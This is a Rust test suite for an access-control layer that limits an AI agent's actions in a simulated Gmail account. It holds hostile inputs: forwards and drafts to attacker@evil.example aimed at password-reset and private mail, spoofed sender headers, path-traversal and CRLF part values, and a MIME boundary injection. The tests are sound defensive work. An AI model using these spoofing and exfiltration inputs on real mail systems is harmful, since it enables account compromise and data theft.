//! The rest of mail: answers to hostile letters, drafts that change, forwards, attachments, threads, labels in bulk.

use claviger_tests::world::raw::{mint, send};
use claviger_tests::world::{AGENT, Plan, World};
use serde_json::json;
use stand_in_google::{Config, Seed, SeedMail, read_mail};

use super::adapter::{abuse, strange};
use super::agent::{bad_ids, strangers};
use super::letters::{COPIES, DRAFTS, LETTERS, attachments};
use super::{
    Attempt, FORM, FORM_OR_SCOPE, Must, Puppet, SCOPE, UNFIT, attempt, control, harm, hold, pollution, with,
};

const FRIENDS: &str = "*@example.com,family@example.org";
const MARK: &str = "xyzzy-4711";
const AT_MS: i64 = 1_794_100_000_000;

/// A mail with that head, to the owner and with a subject where the head says nothing else.
fn mail(head: &str, subject: &str, text: &str) -> Vec<u8> {
    let own = if head.contains("Subject:") { String::new() } else { format!("Subject: {subject}\r\n") };
    format!("{head}\r\n{own}MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\n{text}\r\n").into_bytes()
}

/// A draft of the owner's, with recipients as that head says.
fn draft(head: &str) -> Vec<u8> {
    mail(&format!("From: owner@example.com\r\n{head}"), "Hello", "Hello.")
}

fn arrive(world: &World, labels: &[&str], head: &str, number: usize) -> String {
    let raw = mail(&format!("To: owner@example.com\r\n{head}"), &format!("Letter {number}"), MARK);
    let labels = labels.iter().map(|label| (*label).to_owned()).collect();
    let at_ms = AT_MS + i64::try_from(number).unwrap() * 60_000;
    world
        .google
        .add_mail(&SeedMail { labels, at_ms, raw, thread_of: None })
        .unwrap_or_else(|fault| panic!("{head:?}: {fault}"))
}

async fn world() -> World {
    let google = Config { seed: Seed::post(), ..Config::default() };
    let world = World::start(Plan { google, ..Plan::default() }).await;
    world.add_secrets().await;
    let tools = |names: &[&str]| -> Vec<String> {
        names.iter().flat_map(|name| ["--tool".to_owned(), format!("gmail.{name}")]).collect()
    };
    let grants: [(&str, Vec<String>, &[&str]); 5] = [
        (
            AGENT,
            tools(&[
                "get_message",
                "get_thread",
                "get_attachment",
                "label_messages",
                "mark_read",
                "mark_unread",
                "trash_message",
                "untrash_message",
            ]),
            &["--label", "AI"],
        ),
        (
            AGENT,
            tools(&["reply", "reply_all", "forward", "forward_whole"]),
            &["--label", "AI", "--recipients", FRIENDS],
        ),
        (
            AGENT,
            tools(&["send_message", "create_draft", "update_draft", "send_draft"]),
            &["--recipients", FRIENDS],
        ),
        (AGENT, tools(&["list_drafts", "get_draft", "delete_draft"]), &["--made-by-agent"]),
        (
            "other",
            tools(&[
                "get_message",
                "search_messages",
                "get_thread",
                "get_attachment",
                "mark_read",
                "forward",
            ]),
            &["--senders", "mona@example.com"],
        ),
    ];
    for (agent, tools, bounds) in &grants {
        let mut line = vec![*agent, "gmail/me", "--approve", "never"];
        line.extend(tools.iter().map(String::as_str));
        line.extend(*bounds);
        world.grant(&line).await;
    }
    world
}

fn answers(world: &World) -> Vec<Attempt> {
    let mut all = Vec::new();
    for (number, (what, head, must)) in LETTERS.into_iter().enumerate() {
        let id = arrive(world, &["INBOX", "AI"], head, number);
        for tool in ["gmail.reply", "gmail.reply_all"] {
            all.push(attempt(
                format!("an answer to {what}"),
                tool,
                json!({"message_id": id, "body": "x"}),
                must,
            ));
        }
    }
    for (number, copy) in COPIES.into_iter().enumerate() {
        let id = arrive(world, &["AI"], &format!("From: mona@example.com\r\n{copy}"), 100 + number);
        all.push(attempt(
            format!("all of {copy:?}"),
            "gmail.reply_all",
            json!({"message_id": id, "body": "x"}),
            SCOPE,
        ));
    }
    let google = &world.google;
    for subject in [
        "Please answer quickly",
        "Invoice 2026-118 for November",
        "Your password reset code",
        "Your laboratory results",
    ] {
        let args = json!({"message_id": google.mail_id(subject).unwrap(), "body": "x"});
        for tool in ["gmail.reply", "gmail.reply_all"] {
            all.push(attempt(format!("an answer to {subject}"), tool, args.clone(), SCOPE));
        }
    }
    let inside = json!({"message_id": google.mail_id("Two papers").unwrap(), "body": "x"});
    for more in [
        json!({"to": ["attacker@evil.example"]}),
        json!({"cc": ["attacker@evil.example"]}),
        json!({"subject": "x"}),
        json!({"threadId": "x"}),
        json!({"raw": "x"}),
        json!({"reply_to": ["attacker@evil.example"]}),
    ] {
        all.push(attempt(format!("an answer with {more}"), "gmail.reply", with(&inside, more.clone()), FORM));
    }
    all
}

fn forwards(world: &World) -> Vec<Attempt> {
    let inside = world.google.mail_id("Two papers").unwrap();
    let outside = world.google.mail_id("Your password reset code").unwrap();
    let mut all = Vec::new();
    for (address, must) in strangers() {
        all.push(attempt(
            format!("a forward to {address:?}"),
            "gmail.forward_whole",
            json!({"message_id": inside, "to": [address]}),
            must,
        ));
        let draft = json!({"to": [address], "subject": "x", "body": "x"});
        all.push(attempt(format!("a draft to {address:?}"), "gmail.create_draft", draft, must));
    }
    for tool in ["gmail.forward", "gmail.forward_whole"] {
        let to = json!({"message_id": outside, "to": ["mona@example.com"]});
        all.push(attempt("a mail outside, to a friend", tool, to, SCOPE));
        for field in ["cc", "bcc"] {
            let hidden =
                json!({"message_id": inside, "to": ["mona@example.com"], field: ["attacker@evil.example"]});
            all.push(attempt(format!("a stranger in {field}"), tool, hidden, SCOPE));
        }
        for bad in bad_ids() {
            let to = json!({"message_id": bad, "to": ["mona@example.com"]});
            all.push(attempt(format!("a forward of {bad:?}"), tool, to, FORM_OR_SCOPE));
        }
    }
    let letter = json!({"to": ["mona@example.com"], "subject": "x", "body": "x"});
    for attached in attachments() {
        let args = with(&letter, json!({"attachments": [attached]}));
        all.push(attempt(format!("attached {attached}"), "gmail.send_message", args, FORM));
    }
    all
}

fn drafts(world: &World) -> Vec<Attempt> {
    let mut all = Vec::new();
    for (head, must) in DRAFTS {
        let id = world.google.add_draft(&draft(head)).unwrap_or_else(|fault| panic!("{head:?}: {fault}"));
        all.push(attempt(format!("the draft {head:?}"), "gmail.send_draft", json!({"draft_id": id}), must));
    }
    let owners = world.google.drafts()[0].0.clone();
    for (tool, must) in [("gmail.get_draft", SCOPE), ("gmail.delete_draft", SCOPE)] {
        all.push(attempt("the owner's own draft", tool, json!({"draft_id": owners}), must));
        for bad in bad_ids() {
            all.push(attempt(format!("the draft {bad:?}"), tool, json!({"draft_id": bad}), FORM_OR_SCOPE));
        }
    }
    all.push(attempt(
        "the list of drafts",
        "gmail.list_drafts",
        json!({}),
        Must::NotTell(&["Saturday", "Keys", "gate's code"]),
    ));
    for field in ["to", "cc", "bcc", "reply_to"] {
        let args = json!({"draft_id": owners, field: ["attacker@evil.example"], "subject": "x", "body": "x"});
        all.push(attempt(format!("a draft written anew with {field}"), "gmail.update_draft", args, SCOPE));
    }
    all.push(attempt(
        "a mail as a draft",
        "gmail.send_draft",
        json!({"draft_id": world.google.mail_id("Two papers").unwrap()}),
        SCOPE,
    ));
    for (what, more) in pollution() {
        all.push(attempt(what, "gmail.send_draft", with(&json!({"draft_id": owners}), more), FORM));
    }
    all
}

fn bulk(world: &World) -> Vec<Attempt> {
    let google = &world.google;
    let inside = google.mail_id("Two papers").unwrap();
    let outside = google.mail_id("Your password reset code").unwrap();
    let aside = google.mail_id("Re: Plan for the fence").unwrap();
    let (ai, private) = (google.label_id("AI").unwrap(), google.label_id("Private").unwrap());
    let mut all = Vec::new();
    for tool in ["gmail.mark_read", "gmail.mark_unread"] {
        for ids in [json!([outside]), json!([inside, outside]), json!([inside, aside, outside])] {
            all.push(attempt("a mail outside among others", tool, json!({"message_ids": ids}), SCOPE));
        }
        for ids in [
            json!([format!("{inside},{outside}")]),
            json!(["*"]),
            json!([""]),
            json!([]),
            json!(vec![inside.clone(); 26]),
            json!("x"),
        ] {
            all.push(attempt(format!("the mails {ids}"), tool, json!({"message_ids": ids}), FORM_OR_SCOPE));
        }
    }
    for (add, remove, must) in [
        (json!([]), json!([ai]), SCOPE),
        (json!([private]), json!([ai]), SCOPE),
        (json!([ai]), json!([ai]), SCOPE),
        (json!(["TRASH"]), json!([]), FORM),
        (json!([]), json!(["trash"]), FORM),
        (json!(["SPAM"]), json!([]), FORM),
    ] {
        let args = json!({"message_ids": [inside], "add": add, "remove": remove});
        all.push(attempt(format!("labels {add} {remove}"), "gmail.label_messages", args, must));
        let args = json!({"message_ids": [outside], "add": add, "remove": remove});
        all.push(attempt(
            format!("labels outside {add} {remove}"),
            "gmail.label_messages",
            args,
            FORM_OR_SCOPE,
        ));
    }
    for tool in ["gmail.trash_message", "gmail.untrash_message"] {
        all.push(attempt("a mail outside", tool, json!({"message_id": outside}), SCOPE));
        for bad in bad_ids() {
            all.push(attempt(format!("{bad:?}"), tool, json!({"message_id": bad}), FORM_OR_SCOPE));
        }
    }
    let thread = google.thread_id("Plan for the fence").unwrap();
    all.push(attempt(
        "a thread with a mail outside",
        "gmail.get_thread",
        json!({"thread_id": thread}),
        Must::NotTell(&["birthday", "only for you"]),
    ));
    let reset = google.thread_id("Your password reset code").unwrap();
    all.push(attempt("a thread outside", "gmail.get_thread", json!({"thread_id": reset}), SCOPE));
    for part in [
        "",
        "..",
        "../1",
        "1/../2",
        "0",
        "99",
        "1\r\n",
        "1?alt=media",
        "a",
        "-1",
        "1.",
        ".1",
        "1e9",
        "4294967297",
    ] {
        let args = json!({"message_id": inside, "part": part});
        all.push(attempt(
            format!("the part {part:?}"),
            "gmail.get_attachment",
            args,
            Must::BeRefused(&["bad-arguments", "out-of-scope", UNFIT]),
        ));
        let args = json!({"message_id": outside, "part": part});
        all.push(attempt(format!("the part {part:?} outside"), "gmail.get_attachment", args, FORM_OR_SCOPE));
    }
    all
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_compromised_agent_gets_no_further_with_answers_drafts_and_forwards() {
    let world = world().await;
    let puppet = Puppet::new(&world).await;
    let before = harm::outside(&world);
    let mut attempts = answers(&world);
    attempts.extend(forwards(&world));
    attempts.extend(drafts(&world));
    attempts.extend(bulk(&world));
    hold(&world, &puppet, &attempts, 320).await;
    assert_eq!(harm::outside(&world), before);

    // What a friend wrote is answered, and a draft to a friend is sent: the refusals above have their reasons.
    let good = arrive(&world, &["AI"], "From: mona@example.com\r\nReply-To: theo@example.com", 300);
    puppet.call("gmail.reply", &json!({"message_id": good, "body": "x"})).await.unwrap();
    let good = world.google.add_draft(&draft("To: mona@example.com")).unwrap();
    puppet.call("gmail.send_draft", &json!({"draft_id": good})).await.unwrap();

    // A draft of its own that somebody writes anew, before it is sent.
    let letter = json!({"to": ["mona@example.com"], "subject": "Hello", "body": "Hello."});
    puppet.call("gmail.create_draft", &letter).await.unwrap();
    let (id, _) = world.google.drafts().into_iter().next_back().unwrap();
    let evil = draft("To: mona@example.com\r\nBcc: attacker@evil.example");
    assert!(world.google.rewrite_draft(&id, &evil));
    let got = puppet.call("gmail.send_draft", &json!({"draft_id": id})).await;
    assert_eq!(got, Err("out-of-scope".to_owned()), "a draft that was written anew is sent");

    // A text that looks like the end of a part ends no part, and the attachment's bytes stay its own.
    let sent = world.google.outbox().len();
    let lines = "--=_mixed--\r\n--=_mixed\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n.\r\nBcc: attacker@evil.example";
    let args = with(
        &letter,
        json!({"body": lines, "attachments": [{"name": "a.txt", "type": "text/plain", "data": "LS09X21peGVkLS0NCg=="}]}),
    );
    puppet.call("gmail.send_message", &args).await.unwrap();
    let outbox = world.google.outbox();
    assert_eq!(outbox.len(), sent + 1);
    let raw = String::from_utf8_lossy(&outbox[sent].raw).into_owned();
    let boundary = raw.split("boundary=\"").nth(1).unwrap().split('"').next().unwrap();
    assert_eq!(raw.matches(&format!("--{boundary}")).count(), 3, "{raw}");
    assert!(read_mail(&outbox[sent].raw).is_some());
    assert_eq!(harm::done(&world), Vec::<String>::new());
    control(&world, &attempts, 20).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bound_to_senders_holds_however_the_sender_is_written() {
    let world = world().await;
    let puppet = Puppet::of(&world, "other").await;
    let heads = [
        "From: attacker@evil.example",
        "From: mona@example.com\r\nFrom: attacker@evil.example",
        "From: attacker@evil.example\r\nFrom: mona@example.com",
        "From: mona@example.com, attacker@evil.example",
        "From: \"mona@example.com\" <attacker@evil.example>",
        "From: mona@example.com <attacker@evil.example>",
        "From: =?utf-8?q?mona=40example.com?= <attacker@evil.example>",
        "From: <attacker@evil.example> mona@example.com",
        "From: attacker@evil.example (mona@example.com)",
        "From: (mona@example.com) attacker@evil.example",
        "From: mona@example.com: attacker@evil.example;",
        "From: mona@example.com.evil.example",
        "From: mona+x@example.com",
        "From: \"mona@example.com\\\" <attacker@evil.example>\" <b@evil.example>",
        "From: mona@еxample.com",
        "X-From: mona@example.com",
        "Sender: mona@example.com\r\nFrom: attacker@evil.example",
        "From: attacker@evil.example\r\nResent-From: mona@example.com",
        "From: attacker@evil.example\r\n mona@example.com",
        "From:",
    ];
    let mut attempts = Vec::new();
    let hidden = Must::NotTell(&[MARK]);
    for (number, head) in heads.into_iter().enumerate() {
        let id = arrive(&world, &["INBOX"], head, 200 + number);
        attempts.push(attempt(head, "gmail.get_message", json!({"message_id": id}), SCOPE));
        attempts.push(attempt(head, "gmail.mark_read", json!({"message_ids": [id]}), SCOPE));
        attempts.push(attempt(head, "gmail.get_attachment", json!({"message_id": id, "part": "0"}), SCOPE));
        let thread = world.google.thread_id(&format!("Letter {}", 200 + number)).unwrap();
        attempts.push(attempt(head, "gmail.get_thread", json!({"thread_id": thread}), hidden));
    }
    for args in [
        json!({"words": MARK}),
        json!({"from": "evil"}),
        json!({"from": "mona"}),
        json!({"subject": "Letter"}),
        json!({}),
    ] {
        attempts.push(attempt("a search", "gmail.search_messages", args, hidden));
    }
    hold(&world, &puppet, &attempts, 80).await;
    // Mona's own mail is read.
    let papers = json!({"message_id": world.google.mail_id("Two papers").unwrap()});
    assert!(puppet.call("gmail.get_message", &papers).await.is_ok());
    let good = arrive(&world, &["INBOX"], "From: \"Mona\" <mona@example.com>", 300);
    assert!(puppet.call("gmail.get_message", &json!({"message_id": good})).await.unwrap().contains(MARK));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_compromised_adapter_answers_and_sends_only_what_was_decided() {
    let world = world().await;
    let agent = world.thief(AGENT).await;
    let mut gmail = world.adapter("gmail").await;
    let papers = world.google.mail_id("Two papers").unwrap();
    let kept = world.google.add_draft(&draft("To: mona@example.com")).unwrap();
    let params = [
        "to",
        "cc",
        "bcc",
        "subject",
        "raw",
        "thread",
        "threadId",
        "quote",
        "original",
        "answered",
        "references",
        "message_id",
        "draft_id",
        "id",
    ];
    let steps = ["letter", "original", "draft", "send_message", "delete", "modify", "Send"];
    let calls = [
        ("gmail.reply", json!({"message_id": papers, "body": "x"})),
        ("gmail.reply_all", json!({"message_id": papers, "body": "x"})),
        ("gmail.forward_whole", json!({"message_id": papers, "to": ["mona@example.com"]})),
        ("gmail.send_draft", json!({"draft_id": kept})),
    ];
    let (mut tried, mut faults) = (0, Vec::new());
    for (tool, args) in &calls {
        let misuses = strange("send", &steps, &params);
        tried += misuses.len();
        faults.extend(abuse(&mut gmail, &agent, (tool, args), &misuses).await);
    }
    let thread = json!({"thread_id": world.google.thread_id("Plan for the fence").unwrap()});
    let secret = world.google.mail_id("Your password reset code").unwrap();
    for step in ["message", "thread"] {
        let more =
            super::adapter::misuse("a mail outside of the thread", step, &[("message_id", secret.as_str())]);
        tried += 1;
        faults.extend(abuse(&mut gmail, &agent, ("gmail.get_thread", &thread), &[more]).await);
    }
    assert!(tried >= 60, "{tried} attempts");
    assert!(faults.is_empty(), "{} of {tried}:\n{}", faults.len(), faults.join("\n"));
    assert!(world.google.outbox().is_empty(), "a mail went out by a misuse");

    // The draft is written anew between the decision and the request: what was decided goes out, or nothing.
    let minted = mint(&mut gmail, agent.present("gmail.send_draft", &calls[3].1)).await.unwrap();
    assert!(world.google.rewrite_draft(&kept, &draft("To: attacker@evil.example")));
    let sent = send(&mut gmail, &minted.capability, "send", &[]).await;
    assert!(sent.is_err() && world.google.outbox().is_empty(), "{sent:?}");
    // An answer whose original got another Reply-To in between cannot be tested so: a mail upstream never changes.
    assert_eq!(harm::done(&world), Vec::<String>::new());
}
